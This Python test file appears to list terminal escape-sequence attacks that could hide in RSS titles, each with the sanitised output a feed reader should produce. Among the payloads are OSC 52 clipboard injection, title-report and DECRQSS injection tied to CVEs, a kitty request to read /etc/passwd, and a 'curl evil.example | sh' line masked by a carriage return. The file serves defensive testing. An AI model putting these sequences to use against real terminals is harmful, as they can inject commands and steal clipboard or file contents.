"""Texts that a terminal would obey, as a title could hold them."""

from tests.hostile.shown import Shown

GONE = "the whole sequence is left out, with what it holds"
ESC, CSI, OSC, DCS, ST, BEL = "\x1b", "\x1b[", "\x1b]", "\x1bP", "\x1b\\", "\x07"


def _case(name: str, wrong: str, text: str, line: str, does: str = GONE) -> Shown:
    return Shown(name=name, wrong=wrong, does=does, text=text, line=line)


def _latin_1(title: bytes) -> bytes:
    return (
        b'<?xml version="1.0" encoding="iso-8859-1"?><rss version="2.0"><channel>'
        b"<title>News</title><item><guid>1</guid><title>" + title + b"</title>"
        b"<link>https://news.example/1</link></item></channel></rss>"
    )


_OPERATING_SYSTEM = (
    _case("window title", "OSC 2 names the window", f"Sea{OSC}2;root shell{BEL} news", "Sea news"),
    _case(
        "window and icon title, ended by ST",
        "OSC 0, ended by two characters instead of BEL",
        f"Sea{OSC}0;root shell{ST} news",
        "Sea news",
    ),
    _case(
        "palette", "OSC 4 makes a colour another one", f"Sea{OSC}4;1;rgb:00/00/00{BEL}s", "Seas"
    ),
    _case(
        "hyperlink",
        "OSC 8 makes innocent words lead to a script",
        f"{OSC}8;;javascript:alert(1){BEL}Read on{OSC}8;;{BEL}",
        "Read on",
        "the words stay, the address is left out",
    ),
    _case(
        "notice of the desktop", "OSC 9 and OSC 777 pop up a notice",
        f"Sea{OSC}777;notify;Bank;Log in now{BEL}s", "Seas",
    ),
    _case(
        "question for the colour of the text",
        "the answer to OSC 10 comes as if it was typed",
        f"Sea{OSC}10;?{BEL}s",
        "Seas",
    ),
    _case(
        "text as dark as the page", "OSC 11 hides what is drawn after it",
        f"Sea{OSC}11;rgb:ff/ff/ff{ST}s", "Seas",
    ),
    _case("font", "OSC 50 loads another font", f"Sea{OSC}50;evil{BEL}s", "Seas"),
    _case(
        "clipboard", "OSC 52 puts a command into the clipboard",
        f"Sea{OSC}52;c;ZXZpbA=={BEL}s", "Seas",
    ),
    _case(
        "question for the clipboard",
        "OSC 52 with a question mark types what the clipboard holds",
        f"Sea{OSC}52;p;?{ST}s",
        "Seas",
    ),
    _case("colours as they were", "OSC 104 resets the palette", f"Sea{OSC}104{BEL}s", "Seas"),
    _case(
        "prompt of a shell",
        "OSC 133 marks the text as a command that was run",
        f"Sea{OSC}133;C{BEL}s",
        "Seas",
    ),
    _case(
        "file of iTerm2",
        "OSC 1337 downloads a file into a folder",
        f"Sea{OSC}1337;File=name=YQ==;size=4:ZXZpbA=={BEL}s",
        "Seas",
    ),
    _case(
        "folder", "OSC 7 has the next window opened in another folder",
        f"Sea{OSC}7;file://host/tmp/evil{ST}s", "Seas",
    ),
)  # fmt: skip

_CONTROL_SEQUENCES = (
    _case("cursor", "CUP and ED draw over the whole window", f"Sea{CSI}1;1H{CSI}2Js", "Seas"),
    _case(
        "colours", "SGR 8 hides what follows, and nothing ends it", f"Sea{CSI}8ms", "Seas"
    ),
    _case("the other screen", "DECSET 1049 leaves the screen", f"Sea{CSI}?1049ls", "Seas"),
    _case(
        "every movement of the mouse", "DECSET 1003 has it reported",
        f"Sea{CSI}?1003;1006hs", "Seas"
    ),
    _case(
        "report of the cursor", "the answer to DSR comes as if it was typed", f"Sea{CSI}6ns", "Seas"
    ),
    _case(
        "report of the title",
        "CSI 21 t types the title, which OSC 2 has just set, into the shell (CVE-2003-0063)",
        f"{OSC}2;;evil{BEL}Sea{CSI}21ts",
        "Seas",
    ),
    _case("stack of titles", "CSI 22 t fills it without end", f"Sea{CSI}22;0ts", "Seas"),
    _case("size of the window", "CSI 8 t makes it a cell", f"Sea{CSI}8;1;1ts", "Seas"),
    _case(
        "repetition", "REP repeats a letter two thousand million times",
        f"Sea{CSI}2147483647bs", "Seas",
    ),
    _case("printer", "media copy prints the screen", f"Sea{CSI}5is", "Seas"),
    _case(
        "margins", "DECSTBM leaves one line that scrolls", f"Sea{CSI}1;1rs", "Seas"
    ),
    _case("soft reset", "DECSTR has an intermediate character", f"Sea{CSI}!ps", "Seas"),
    _case(
        "keyboard", "the kitty protocol's flags change what keys send", f"Sea{CSI}>31us", "Seas"
    ),
    _case(
        "rectangle", "DECFRA fills a part of the screen with a letter",
        f"Sea{CSI}88;1;1;24;80$xs", "Seas",
    ),
    _case(
        "sequence without an end",
        "CSI with parameters, and the text is over",
        f"Sea {CSI}31;1",
        "Sea",
        "what there is of the sequence is left out",
    ),
)  # fmt: skip

_STRINGS = (
    _case("Sixel", "DCS q draws a picture over the words", f"Sea{DCS}q#0;2;0;0;0~-{ST}s", "Seas"),
    _case("keys", "DECUDK has a key type a command", f"Sea{DCS}0;1|17/6576696c{ST}s", "Seas"),
    _case(
        "through tmux",
        "tmux hands on what its DCS holds, with each ESC doubled",
        f"Sea{DCS}tmux;{ESC}{ESC}]52;c;ZXZpbA=={BEL}{ST}s",
        "Seatmux;s",
        "both sequences are left out, and the word for tmux can be seen",
    ),
    _case(
        "question for what the terminal can",
        "the answer to XTGETTCAP comes as if it was typed",
        f"Sea{DCS}+q544e{ST}s",
        "Seas",
    ),
    _case(
        "question for a setting", "the answer to DECRQSS did hold the question (CVE-2008-2383)",
        f"Sea{DCS}$q\"pevil{ST}s", "Seas",
    ),
    _case(
        "picture of kitty", "APC G reads a file of the machine",
        f"Sea{ESC}_Gt=f,a=T;L2V0Yy9wYXNzd2Q={ST}s", "Seas",
    ),
    _case("privacy message", "PM, which hides what it holds", f"Sea{ESC}^hidden{ST}s", "Seas"),
    _case(
        "start of string", "SOS, which may hold everything but its end",
        f"Sea{ESC}Xhidden{ST}s", "Seas",
    ),
    _case(
        "string without an end",
        "a terminal would wait for the end of OSC and show nothing any more",
        f"Sea {OSC}52;c;and the rest of the page",
        "Sea c;and the rest of the page",
        "the beginning is left out, and the text after it stays",
    ),
    _case(
        "string that a line ends",
        "an OSC over two lines",
        f"Sea{OSC}0;one\ntwo{BEL} news",
        "Sea news",
    ),
    _case(
        "string that a control breaks off",
        "CAN ends an OSC for a terminal, and what follows is text",
        f"Sea{OSC}0;evil\x18 news",
        "Seaevil news",
        "the controls are left out, and the words stay",
    ),
    _case(
        "string of a hundred thousand",
        "an OSC longer than any that means something",
        f"Sea{OSC}2;" + "x" * 100_000 + BEL,
        "Sea" + "x" * 996 + "…",
        "the controls are left out, and the words are cut",
    ),
)  # fmt: skip

_ESCAPES = (
    _case("full reset", "RIS, two characters", f"Sea{ESC}cs", "Seas"),
    _case("single shift", "SS2 takes the next letter from another set", f"Sea{ESC}Ns", "Seas"),
    _case("line drawing", "a designation of charsets makes letters lines", f"Sea{ESC}(0s", "Seas"),
    _case("coding", "ESC % @ leaves UTF-8, and bytes become controls", f"Sea{ESC}%@s", "Seas"),
    _case("test picture", "DECALN fills the screen with E", f"Sea{ESC}#8s", "Seas"),
    _case(
        "ESC at the end",
        "it would take the program's next letter",
        f"Sea{ESC}",
        "Sea",
        "it is left out",
    ),
    _case(
        "one in the other",
        "what is left of it when the inner sequence is taken out is a sequence again",
        f"Sea{ESC}{CSI}31m]52;c;ZXZpbA=={BEL}s",
        "Sea]52;c;ZXZpbA==s",
        "the controls are left out, and the words of the outer sequence can be seen",
    ),
    _case(
        "parted by what is invisible",
        "without the zero width space it is a sequence again",
        f"Sea{ESC}\u200b[2Js",
        "Sea[2Js",
        "the control is left out, and its words can be seen",
    ),
)

_CONTROLS = (
    _case(
        "C1 as one letter", "U+009B is CSI, and what 0xC2 0x9B decodes to", "Sea\x9b2Js", "Seas"
    ),
    _case(
        "C1 strings", "U+009D and U+009C are OSC and its end", "Sea\x9d52;c;ZXZpbA==\x9cs", "Seas"
    ),
    _case(
        "C1 that begin nothing",
        "IND, HTS, RI, SS3 and the rest of them",
        "Se\x84\x88\x8d\x8f\x96\x97as",
        "Seas",
        "they are left out",
    ),
    _case("next line", "NEL ends a line without LF", "Sea\x85news", "Sea news", "it is a space"),
    Shown(
        name="C1 in a file of Latin-1",
        wrong="the byte 0x9B is no letter there, but CSI for a terminal of eight bits",
        does="read as browsers do, by Windows' table, it is a quotation mark",
        text="Sea\u203a2Js",
        line="Sea\u203a2Js",
        feed=_latin_1(b"Sea\x9b2Js"),
    ),
    _case(
        "overprinting",
        "with BS another word stands there than what is copied",
        "rm -rf\x08\x08\x08\x08\x08\x08\x08ls",
        "rm -rfls",
        "the controls are left out, and every word can be seen",
    ),
    _case(
        "carriage return",
        "what follows CR is drawn over what stands there",
        "curl evil.example | sh\rls -l",
        "curl evil.example | sh ls -l",
        "it is a space, and both words can be seen",
    ),
    _case(
        "feeds", "VT and FF go down a line", "Sea\x0bnews\x0chere", "Sea news here",
        "they are spaces",
    ),
    _case(
        "tabulators", "they go on to places that nobody knows", "Sea\t\tnews", "Sea news",
        "they are one space",
    ),
    _case("bell", "it rings, and ends nothing", "Se\x07as", "Seas", "it is left out"),
    _case("null", "C programs end a text there", "Se\x00as", "Seas", "it is left out"),
    _case("delete", "DEL, the last of the seven bits", "Se\x7fas", "Seas", "it is left out"),
    _case("enquiry", "ENQ has terminals answer with a text", "Se\x05as", "Seas", "it is left out"),
    _case(
        "shifts", "SO makes the letters after it lines", "Se\x0eas\x0f", "Seas", "they are left out"
    ),
    _case(
        "flow control", "XOFF halts a terminal that heeds it", "Se\x13as\x11", "Seas",
        "they are left out",
    ),
    _case(
        "line and paragraph separators", "they end lines for some programs only",
        "Sea\u2028news\u2029here", "Sea news here", "they are spaces",
    ),
    _case(
        "lone surrogate", "no UTF-8 can be made of it: the program would end",
        "Sea \ud83d news", "Sea \ufffd news", "it is the sign for what cannot be read",
    ),
    _case(
        "noncharacters", "code points that no text may hold", "Se\ufdd0\uffff\U0010fffeas", "Seas",
        "they are left out",
    ),
    _case(
        "a million controls", "work that grows faster than the text would never end",
        "Sea" + "\x1b[" * 500_000 + "\x9d" * 10_000 + "s", "Seas", "they are left out",
    ),
)  # fmt: skip


CASES = (*_OPERATING_SYSTEM, *_CONTROL_SEQUENCES, *_STRINGS, *_ESCAPES, *_CONTROLS)
